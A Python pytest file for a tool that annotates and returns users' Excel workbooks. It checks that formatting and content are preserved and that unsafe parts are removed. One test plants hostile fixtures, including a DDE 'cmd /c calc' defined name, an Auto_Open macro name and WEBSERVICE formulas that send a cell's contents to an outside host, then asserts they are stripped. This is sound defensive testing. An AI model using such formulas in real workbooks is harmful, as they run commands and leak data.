"""What comes back of a clerk's own workbook, what is left behind, and that no program needs to repair it."""

from __future__ import annotations

import re
import time
from datetime import datetime
from io import BytesIO
from pathlib import Path

import pytest
from office_suite import needs_office, saved_as
from openpyxl import Workbook, load_workbook
from package_samples import assert_sound, packed, parts, patched, png, rich, sheet_of_cells
from test_workbook import FILLED, SPEC
from xlsxwriter import Workbook as Writer

from config.calendar import SHANGHAI
from templates.annotate import AUTHOR, RESULTS, annotated_return
from templates.views import FindingLine
from templates.workbook import upload_workbook

MADE = datetime(2019, 10, 16, 10, 0, 2, tzinfo=SHANGHAI)
pytestmark = pytest.mark.filterwarnings("ignore:.*extension is not supported")  # openpyxl, reading
ERROR = FindingLine("error", "填报表", "B3", "x", "错了")
HEAD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def returned(original: bytes, *findings: FindingLine, kind: str = "xlsx") -> bytes:
    made = annotated_return(original, kind, findings or (ERROR,), MADE)
    assert_sound(made)
    return made


def read(data: bytes) -> Workbook:
    return load_workbook(BytesIO(data))


def test_the_clerk_gets_formats_lists_pictures_charts_and_tables_back() -> None:
    before, data = read(rich()), returned(rich())
    after = read(data)
    assert after.sheetnames == [RESULTS, *before.sheetnames]
    one, two = before["填报表"], after["填报表"]
    assert two.column_dimensions["A"].width == one.column_dimensions["A"].width
    assert two.row_dimensions[3].height == 45
    assert two.data_validations.count == one.data_validations.count == 2
    assert [len(two.conditional_formatting), two.merged_cells] == [
        len(one.conditional_formatting),
        one.merged_cells,
    ]
    assert b"x14:dataBar" in parts(data)["xl/worksheets/sheet2.xml"]
    assert [len(two._images), len(two._charts)] == [1, 1]
    assert parts(data)["xl/media/image1.png"] == png()
    assert [two.auto_filter.ref, two.print_title_rows, two.oddHeader.center.text] == [
        "A1:B4",
        "$1:$1",
        "季报",
    ]
    assert after["清单 一"].sheet_state == "hidden"
    table = after["清单 一"].tables["表1"]
    assert [table.ref, [c.calculatedColumnFormula for c in table.tableColumns]] == ["C1:D4", [None, None]]
    assert [after.properties.title, after.properties.creator] == ["季报", "张三"]
    # what clicks, and what only looks at a program's shapes, is gone
    assert b"example.cn" not in b"".join(parts(data).values())
    assert [two["A9"].hyperlink, two["A10"].hyperlink.location] == [None, "'清单 一'!A1"]


def test_a_mark_within_merged_cells_shows_at_their_first_one() -> None:
    book = Workbook()
    book.active.title = "填报表"
    book.active["B3"] = 5
    book.active.merge_cells("B3:C5")
    out = BytesIO()
    book.save(out)
    below = FindingLine("error", "填报表", "C4:C5", "", "没有填")
    asked = FindingLine("warning", "填报表", "B3", "5", "偏大")
    cell = read(returned(out.getvalue(), asked, below))["填报表"]["B3"]
    assert cell.comment.text.splitlines() == ["【错误】没有填", "【请说明】偏大"]
    assert cell.fill.fgColor.rgb == "FFFFC7CE"


def test_names_belong_to_the_sheets_they_belonged_to() -> None:
    after = read(returned(rich()))
    assert after["清单 一"].defined_names["本表"].attr_text == "'清单 一'!$A$1"
    assert after["清单 一"].print_area == "'清单 一'!$A$1:$A$3"
    assert after["填报表"].print_area == "'填报表'!$A$1:$B$9"
    assert after.defined_names["清单"].attr_text == "'清单 一'!$A$1:$A$3"


def test_the_clerks_comments_stay_and_ours_go() -> None:
    first = returned(rich(), FindingLine("error", "填报表", "B4", "", "错了"))
    assert [read(first)["填报表"][c].comment.author for c in ("B3", "B4")] == ["张三", AUTHOR]
    after = read(returned(first, FindingLine("info", "填报表", "A1", "", "看")))["填报表"]
    assert [after["B3"].comment.text, after["B4"].comment] == ["我的备注", None]
    # B4 was locked; A3 takes the look its column gave it before it was there
    assert after["B4"].fill.fgColor.rgb == "FFF4F5F7"
    blank = read(returned(rich(), FindingLine("warning", "填报表", "A3", "", "空")))["填报表"]["A3"]
    assert [blank.protection.locked, blank.number_format, blank.fill.fgColor.rgb] == [
        False,
        "0.00",
        "FFFFE08A",
    ]


def test_a_mark_changes_the_fill_and_nothing_else_of_a_cell() -> None:
    data = sheet_of_cells('<row r="1"><c r="A1" s="1"><v>0.5</v></c><c r="B1" s="1"><v>0.5</v></c></row>')
    sheet = read(returned(data, FindingLine("error", "填报表", "A1", "", "错")))["填报表"]
    marked, other = sheet["A1"], sheet["B1"]
    assert marked.number_format == "0.00%"
    assert [repr(marked.font), repr(marked.border)] == [repr(other.font), repr(other.border)]
    assert [marked.protection.locked, other.fill.fill_type, marked.fill.fgColor.rgb] == [
        False,
        None,
        "FFFFC7CE",
    ]


@pytest.mark.parametrize(
    ("cell", "value", "kind"),
    [
        ('<c r="A1"><f>1+1</f><v>2</v></c>', 2, "n"),
        ('<c r="A1" t="str"><f>"=x"&amp;1</f><v>=x1</v></c>', "=x1", "s"),
        ('<c r="A1" t="b"><f>TRUE()</f><v>1</v></c>', True, "b"),
        ('<c r="A1" t="e"><f>1/0</f><v>#DIV/0!</v></c>', "#DIV/0!", "e"),
        ('<c r="A1"><f>NOW()</f></c>', "=NOW()", "s"),
        ('<c r="A1" t="str"><f>IF(1,"")</f><v></v></c>', '=IF(1,"")', "s"),
        ('<c r="A1"><f t="array" ref="A1:A2">{1;2}*2</f><v>2</v></c>', 2, "n"),
        ('<c r="A1"><f t="array" ref="A1:A2">SUM(B1)</f></c>', "=SUM(B1)", "s"),
        ('<c r="A1"><f t="dataTable" ref="A1" r1="B1"/></c>', "=", "s"),
        ('<c r="A1" cm="1" vm="2"><f>X()</f><v>5</v></c>', 5, "n"),
    ],
)
def test_a_formula_becomes_its_result_or_its_own_text(cell: str, value: object, kind: str) -> None:
    found = read(returned(sheet_of_cells(f'<row r="1">{cell}</row>')))["填报表"]["A1"]
    assert (found.value, found.data_type) == (value, kind)


def test_a_shared_formula_without_results_reads_as_each_cell_had_it() -> None:
    data = sheet_of_cells(
        '<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:B2">C1+$C$1+LOG10(1)+\'表1\'!D1&amp;"A1"</f></c></row>'
        '<row r="2"><c r="B2"><f t="shared" si="0"/></c></row>'
    )
    assert read(returned(data))["填报表"]["B2"].value == "=D2+$C$1+LOG10(1)+'表1'!E2&\"A1\""


@pytest.mark.parametrize(
    "rows",
    [
        "<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>",
        '<row r="2"><c r="A2"><v>3</v></c></row><row r="1"><c r="B1"><v>2</v></c><c r="A1"><v>1</v></c></row>',
        '<row r="1"><c r="A1"><v>9</v></c><c r="A1"><v>1</v></c><c><v>2</v></c></row><row r="2"><c><v>3</v></c></row>',
        '<row r="1"><c r="A1"><v>1</v></c><c r="A2"><v>3</v></c><c r="B1"><v>2</v></c></row>',
        '<row r="1"><c r="A1"><v>1</v></c><x/><c r="B1"><v>2</v><junk><f/></junk></c></row><x/><row r="2"><c><v>3</v></c></row>',
        '<row r="1" s="999"><c r="A1" s="-1"><v>1</v></c><c r="B1" s="x"><v>2</v></c></row><row r="2"><c r="A2" s="99"><v>3</v></c></row>',
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c></row><row r="2"><c r="A2"><v>3</v></c></row>'
        '<row r="9999999"><c r="A9999999"><v>4</v></c></row>',
    ],
)  # fmt: skip
def test_cells_stand_where_they_were_meant(rows: str) -> None:
    sheet = read(returned(sheet_of_cells(rows), FindingLine("error", "填报表", "A1、C1、A5", "", "错")))[
        "填报表"
    ]
    assert [sheet[c].value for c in ("A1", "B1", "A2")] == [1, 2, 3]
    assert [sheet[c].comment is not None for c in ("A1", "B1", "C1", "A5")] == [True, False, True, True]


def test_what_is_not_known_to_be_inert_is_left_behind() -> None:
    def more(links: bytes) -> bytes:
        kinds = ("vbaProject", "externalLink", "customXml", "connections", "calcChain", "macrosheet")
        added = "".join(f'<Relationship Id="x{k}" Type="{HEAD}/{k}" Target="{k}.bin"/>' for k in kinds)
        return links.replace(b"</Relationships>", added.encode() + b"</Relationships>")

    def front(workbook: bytes) -> bytes:
        names = (
            '<definedName name="Auto_Open" xlm="1">填报表!$A$1</definedName>'
            '<definedName name="out1">[1]Sheet1!$A$1</definedName><definedName name="out2">cmd|\'/c calc\'!A0</definedName>'
            '<definedName name="out3">WEBSERVICE("http://x.cn/"&amp;填报表!$A$1)</definedName>'
            '<definedName name="out4">Other!$A$1</definedName><definedName name="fine">OFFSET(填报表!$A$1,1,0)</definedName>'
        )
        text = workbook.decode().replace("<definedNames>", f"<definedNames>{names}")
        return text.replace("<sheets>", '<fileSharing readOnlyRecommended="1"/><sheets>').encode()

    def sheet(content: bytes) -> bytes:
        text = content.decode().replace('<c r="B2"', '<c r="B2" cm="1"')
        rules = (
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9"><formula>_xlfn.WEBSERVICE(A1)=1</formula></cfRule>'
            "</conditionalFormatting><dataValidations"
        )
        tail = '<oleObjects><oleObject r:id="rId1"/></oleObjects><controls/>'
        tail += '<tableParts count="1"><tablePart r:id="rId1"/></tableParts></worksheet>'
        text = text.replace("<dataValidations", rules).replace("</worksheet>", tail)
        return text.replace("<pageSetup ", '<pageSetup r:id="rId1" ').encode()

    original = patched(
        rich(),
        {
            "xl/_rels/workbook.xml.rels": more, "xl/workbook.xml": front, "xl/worksheets/sheet1.xml": sheet,
            "xl/vbaProject.bin": b"VBA", "xl/externalLink.bin": b"x", "xl/calcChain.bin": b"x",
            "customXml/item1.xml": b"<x/>", "xl/printerSettings/printerSettings1.bin": b"x", "xl/embeddings/x.bin": b"x",
        },
    )  # fmt: skip
    made = returned(original, kind="xlsm")
    assert {re.sub(r"[0-9]", "", name) for name in parts(made)} == {
        "[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet.xml", "xl/worksheets/_rels/sheet.xml.rels", "xl/styles.xml", "xl/theme/theme.xml",
        "xl/sharedStrings.xml", "xl/comments.xml", "xl/drawings/vmlDrawing.vml", "xl/drawings/drawing.xml",
        "xl/drawings/_rels/drawing.xml.rels", "xl/media/image.png", "xl/charts/chart.xml", "xl/tables/table.xml",
    }  # fmt: skip
    book = read(made)
    assert set(book.defined_names) == {"清单", "fine"}
    assert len(book["填报表"].conditional_formatting) == 1


def test_a_strict_workbook_is_edited_too() -> None:
    def strict(content: bytes) -> bytes:
        for name in ("spreadsheetml", "drawingml"):
            content = content.replace(
                f"http://schemas.openxmlformats.org/{name}/2006/".encode(),
                f"http://purl.oclc.org/ooxml/{name}/".encode(),
            )
        return content.replace(HEAD.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships")

    original = packed({name: strict(content) for name, content in parts(rich()).items()})
    after = read(returned(original))
    assert after["填报表"]["B5"].value == 6
    assert after["填报表"]["B3"].comment.author == AUTHOR
    assert after["填报表"].row_dimensions[3].height == 45


def test_a_chart_sheet_is_lost_and_the_names_after_it_counted_anew() -> None:
    buffer = BytesIO()
    with Writer(buffer, {"in_memory": True}) as book:
        sheet, chartsheet, last = (
            book.add_worksheet("填报表"),
            book.add_chartsheet("图"),
            book.add_worksheet("末"),
        )
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=填报表!$A$1:$A$3"})
        chartsheet.set_chart(chart)
        sheet.write_column(0, 0, (1, 2, 3))
        last.repeat_rows(1)
    after = read(returned(buffer.getvalue()))
    assert after.sheetnames == [RESULTS, "填报表", "末"]
    assert after["末"].print_title_rows == "$2:$2"


def test_a_book_of_nothing_but_our_list_is_returned_with_a_new_one() -> None:
    buffer = BytesIO()
    with Writer(buffer, {"in_memory": True}) as book:
        book.add_worksheet(RESULTS).write_string(0, 0, "x")
    after = read(returned(buffer.getvalue(), FindingLine("error", RESULTS, "A1", "", "空")))
    assert after.sheetnames == [f"{RESULTS}1", RESULTS]


@pytest.mark.parametrize(
    "after",
    [
        "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 20_000 + "</mergeCells>",
        '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>'
        + "A1+" * 20_000 + "1</formula></cfRule></conditionalFormatting>",
        "<x>" * 200 + "</x>" * 200,
        "<hyperlinks>" + '<hyperlink ref="A1" location="填报表!A1"/>' * 5_000 + "</hyperlinks>",
    ],
)  # fmt: skip
def test_oversized_leftovers_cost_no_time(after: str) -> None:
    data = sheet_of_cells('<row r="1"><c r="A1"><v>1</v></c></row>', after=after)
    began = time.process_time()
    made = annotated_return(data, "xlsx", (FindingLine("error", "填报表", "A1:D500", "", "错"),), MADE)
    assert time.process_time() - began < 10
    assert b'ref="A1"' in parts(made)["xl/comments1.xml"]


def test_a_package_too_odd_to_edit_is_rebuilt_from_its_cells() -> None:
    deep = '<row r="1"><c r="A1"><v>1</v></c></row>' + "<x>" * 2000 + "</x>" * 2000
    sheet = read(returned(sheet_of_cells(deep), FindingLine("error", "填报表", "A1", "", "错")))["填报表"]
    assert [sheet["A1"].value, sheet["A1"].comment.author] == [1, AUTHOR]


def test_texts_that_look_like_escapes_or_markup_come_out_as_they_are() -> None:
    said = "a_x0041_b <&> \"'" + "\ufffe\ud800 x\n二"
    data = returned(upload_workbook(SPEC, FILLED), FindingLine("error", "填报表", "G5", said, said))
    plain = said.replace("\ufffe\ud800", "").replace("_x0041_", "_x005F_x0041_")
    assert read(data)[RESULTS]["E5"].value == plain
    assert plain in read(data)["填报表"]["G5"].comment.text


@needs_office
@pytest.mark.parametrize("to", ["xlsx", "xls", "ods"])
def test_libreoffice_opens_and_saves_a_return(to: str, tmp_path: Path) -> None:
    again = saved_as(returned(rich()), "xlsx", to, tmp_path)
    second = read(returned(again, kind=to))
    assert second.sheetnames == [RESULTS, "填报表", "清单 一"]
    assert [second["填报表"][c].value for c in ("A1", "B4", "B5")] == ["项目", 3, 6]
    assert second["填报表"]["B3"].comment.author == AUTHOR
